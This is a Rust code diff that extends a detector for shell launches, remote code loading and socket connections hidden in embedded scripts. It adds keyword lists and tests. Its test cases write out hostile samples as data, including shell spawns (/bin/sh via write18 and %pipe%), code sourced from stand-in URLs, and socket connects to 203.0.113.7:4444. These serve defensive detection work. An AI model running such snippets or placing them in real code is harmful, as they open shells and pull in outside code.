@@ -10,15 +10,27 @@ use crate::understand::walk::Walker;
 /// Names behind which a command stands. Compared without case, after the last `.`, `:` or `>`.
 #[rustfmt::skip]
 const STARTS_A_PROCESS: &[&str] = &[
-    "ansi-term", "async-shell-command", "call", "call-process", "check_call", "check_output", "cmd", "command",
-    "exec", "execl", "execlp", "execsync", "execute", "execv", "execve", "execvp", "iex", "invoke-expression", "launch",
-    "open", "passthru", "pipe", "popen", "process", "run", "run-program", "run-shell-command", "script", "sh", "shell",
-    "shell-command", "shell-command-to-string", "shell_exec", "shellescape", "shellexecute", "spawn", "spawnsync",
-    "start", "start-process", "system", "system2", "systemerror", "term", "write18",
+    "ansi-term", "async-shell-command", "call", "call-process", "callcommand", "callprocess", "check_call",
+    "check_output", "cmd", "command", "esyscmd", "exec", "execl", "execlp", "execsync", "execute", "execute-silent",
+    "execv", "execve", "execvp", "iex", "invoke-expression", "launch", "open", "passthru", "pipe", "popen", "process",
+    "processbuilder", "readprocess", "run", "run-program", "run-shell-command", "script", "sh", "shell",
+    "shell-command", "shell-command-to-string", "shell_exec", "shellexecute", "spawn", "spawnsync", "start",
+    "start-process", "staticexec", "syscmd", "system", "system2", "term", "write18",
 ];
 
 /// Of those, the ones that stand without parentheses or quotes, as in Tcl and in editors' scripts.
 const BARE: &[&str] = &["exec", "shell", "spawn", "system"];
+
+/// Names behind which a host to connect to may stand.
+const CONNECTS: &[&str] =
+    &["connect", "dial", "opentcp", "socket", "socketconnection", "tcpclient", "tcpsocket"];
+
+/// Names behind which the address of code may stand.
+const TAKES_CODE: &[&str] =
+    &["eval", "import", "include", "load", "loadstring", "require", "run", "runscript", "source"];
+
+/// What stands before a command that a text runs: `|/bin/sh`, `%pipe%/bin/sh`, `; /bin/sh`.
+const BEFORE_A_SHELL: &[char] = &['|', '$', '%', '!', ';', '&', '`', '(', '{'];
 
 /// Strings of one call that are looked at.
 const MAX_WORDS: usize = 16;
@@ -28,6 +40,8 @@ const MAX_WORDS: usize = 16;
 enum Start {
     Shell(String),
     Argv(Vec<String>),
+    Download(String),
+    Connect(String),
 }
 
 impl Walker<'_> {
@@ -54,6 +68,10 @@ impl Walker<'_> {
     pub(in crate::understand) fn foreign_calls(&mut self, text: &str, span: Span) {
         for start in starts(text) {
             self.speculate(false, |w| match start {
+                Start::Connect(to) => w.connects(&Value::text(to), span, "code/connect"),
+                Start::Download(from) => {
+                    w.runs_download(Some(&from), span, &format!("runs code from {from}"))
+                }
                 Start::Shell(command) => {
                     w.run_text(&Value::text(command), span);
                 }
@@ -74,10 +92,21 @@ fn starts(text: &str) -> Vec<Start> {
         if found.len() > MAX_WORDS {
             break;
         }
-        if STARTS_A_PROCESS.binary_search(&name.to_ascii_lowercase().as_str()).is_err() {
+        let lower = name.to_ascii_lowercase();
+        let after = text.get(end..).unwrap_or("");
+        if TAKES_CODE.binary_search(&lower.as_str()).is_ok()
+            && let Some(from) = address(after)
+        {
+            found.push(Start::Download(from.to_owned()));
+        }
+        if CONNECTS.binary_search(&lower.as_str()).is_ok()
+            && let Some(host) = host_in(after)
+        {
+            found.push(Start::Connect(host.to_owned()));
+        }
+        if STARTS_A_PROCESS.binary_search(&lower.as_str()).is_err() {
             continue;
         }
-        let after = text.get(end..).unwrap_or("");
         let (words, used) = strings(after);
         let opens = text.get(..end - name.len()).unwrap_or("").trim_end_matches([' ', '\t']);
         match words.as_slice() {
@@ -85,9 +114,10 @@ fn starts(text: &str) -> Vec<Start> {
                 && after.starts_with(' ')
                 && (opens.is_empty() || opens.ends_with(['\n', ';', '[', '{', '"'])) =>
             {
-                let line = after.split(['\n', ';', ']', '}']).next().unwrap_or("").trim();
+                let line = after.split(['\n', ';', ']']).next().unwrap_or("").trim();
                 if !line.is_empty() {
-                    found.push(Start::Shell(line.to_owned()));
+                    // Tcl quotes with braces.
+                    found.push(Start::Shell(line.replace(['{', '}'], "'")));
                 }
             }
             [] => {}
@@ -97,7 +127,70 @@ fn starts(text: &str) -> Vec<Start> {
         at += used;
     }
     // Text between backticks is run in Julia, Ruby, Perl, PHP and the shell.
+    found.extend(shells_in(text));
     found.extend(text.split('`').skip(1).step_by(2).take(MAX_WORDS).map(|t| Start::Shell(t.to_owned())));
+    let mut once: Vec<Start> = Vec::new();
+    for start in found {
+        if !once.contains(&start) {
+            once.push(start);
+        }
+    }
+    once
+}
+
+/// The host in the arguments directly behind a name: a number, or a name with dots.
+fn host_in(after: &str) -> Option<&str> {
+    let call = after.split([')', ']', '\n']).next()?;
+    call.split(['"', '\'', ' ', ',', '(', '[']).find(|word| {
+        let host = word.split(':').next().unwrap_or("");
+        host.split('.').count() > 2
+            && host
+                .split('.')
+                .all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'))
+    })
+}
+
+/// The web address that stands directly behind a name, quoted or in a call.
+fn address(after: &str) -> Option<&str> {
+    let at = after.find("http")?;
+    let between = after.get(..at)?;
+    let calls =
+        between.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '(' | '"' | '\'' | ' ' | '.' | '_'));
+    let rest = after.get(at..)?;
+    let url = rest.split(['"', '\'', ')', ' ', '\n']).next()?;
+    (calls && between.len() < 24 && between.contains(['"', '\'']) && url.contains("://")).then_some(url)
+}
+
+/// `["sh", "-c", "…"]`, and a shell behind a mark that runs it.
+fn shells_in(text: &str) -> Vec<Start> {
+    let mut found = Vec::new();
+    for (at, _) in text.match_indices("sh").take(MAX_WORDS) {
+        let rest = text.get(at + 2..).unwrap_or("");
+        let before = text.get(..at).unwrap_or("");
+        let open = before.rfind(|c: char| !(c.is_ascii_lowercase() || c == '/')).map_or(0, |i| i + 1);
+        let name = text.get(open..at + 2).unwrap_or("");
+        let known = matches!(name, "sh" | "bash" | "dash" | "zsh" | "ksh")
+            || name.ends_with("/sh")
+            || name.ends_with("/bash");
+        if !known {
+            continue;
+        }
+        let outside = text.get(..open).unwrap_or("");
+        if let Some(quote) = outside.chars().next_back().filter(|c| matches!(c, '"' | '\''))
+            && rest.starts_with(quote)
+        {
+            let (words, _) = strings(&format!("({})", text.get(open - 1..).unwrap_or("")));
+            if words.len() > 1 && words.iter().nth(1).is_some_and(|w| w.starts_with('-')) {
+                found.push(Start::Argv(words));
+            }
+        } else if name.starts_with('/')
+            && outside.trim_end().ends_with(BEFORE_A_SHELL)
+            && !outside.ends_with("#!")
+            && rest.chars().next().is_none_or(|c| !c.is_ascii_alphanumeric())
+        {
+            found.push(Start::Shell(name.to_owned()));
+        }
+    }
     found
 }
 
@@ -165,8 +258,10 @@ mod tests {
     use super::*;
 
     #[test]
-    fn the_list_is_sorted() {
+    fn the_lists_are_sorted() {
         assert!(STARTS_A_PROCESS.is_sorted());
+        assert!(TAKES_CODE.is_sorted());
+        assert!(CONNECTS.is_sorted());
     }
 
     #[test]
@@ -179,12 +274,22 @@ mod tests {
             ("exec /bin/sh", shell("/bin/sh")),
             ("spawn bash; interact", shell("bash")),
             (r"\immediate\write18{/bin/sh}\end", shell("/bin/sh")),
-            ("run(`sh`)", vec![Start::Shell("sh".into()), Start::Shell("sh".into())]),
+            ("run(`sh`)", shell("sh")),
             (r#"puts "system ls""#, vec![]),
             (
                 r#"System.cmd("sh", ["-c", "id"])"#,
                 vec![Start::Argv(vec!["sh".into(), "-c".into(), "id".into()])],
             ),
+            (r#"["sh","-c","id"].execute()"#, vec![Start::Argv(vec!["sh".into(), "-c".into(), "id".into()])]),
+            ("(%pipe%/bin/sh) (r) file", shell("/bin/sh")),
+            (r#"source("http://x.example/a.R")"#, vec![Start::Download("http://x.example/a.R".into())]),
+            (
+                r#"include(download("http://x.example/a.jl"))"#,
+                vec![Start::Download("http://x.example/a.jl".into())],
+            ),
+            (r#"s<-socketConnection("203.0.113.7",4444)"#, vec![Start::Connect("203.0.113.7".into())]),
+            ("set s [socket 203.0.113.7 4444]", vec![Start::Connect("203.0.113.7".into())]),
+            ("see http://x.example/sh and #!/bin/sh", vec![]),
             ("plot(x, 'system load')", vec![]),
             ("1 + 2", vec![]),
         ] {
